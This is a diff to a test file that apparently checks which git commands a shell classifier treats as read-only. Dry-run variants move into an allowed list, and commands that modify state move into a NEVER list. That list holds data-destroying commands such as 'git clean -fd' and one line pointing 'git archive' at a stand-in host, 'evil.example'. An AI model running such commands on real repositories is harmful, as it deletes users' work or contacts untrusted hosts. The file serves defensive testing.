@@ -7,6 +7,14 @@ from assent.engine.shell.readonly import reading
 from tests.engine.shell.knowledge.lines import files, lines, read
 
 READS = lines(r"""
+    # what would change, if it were not only asked
+    git apply --check a.patch
+    git apply --stat a.patch
+    git apply -p1 --numstat a.patch
+    git clean -n
+    git clean -ndx
+    git clean --dry-run -d
+    git verify-pack -v .git/objects/pack/pack-1.idx
     # state of the work tree
     git status
     git status -s
@@ -545,9 +553,11 @@ NEVER = lines(r"""
     git add -p
     git am a.patch
     git apply a.patch
-    git apply --check a.patch
-    git apply --stat a.patch
+    git apply --stat a.patch --apply
+    git apply -R a.patch
+    git apply --3way --check a.patch
     git archive HEAD
+    git archive -l HEAD
     git archive -o out.tar HEAD
     git archive --remote=ssh://evil.example/x HEAD
     git bisect start
@@ -562,7 +572,9 @@ NEVER = lines(r"""
     git checkout -- a.txt
     git checkout-index -a
     git cherry-pick a1b2c3
-    git clean -n
+    git clean
+    git clean -d
+    git clean -n -f
     git clean -fd
     git commit -m x
     git commit --dry-run
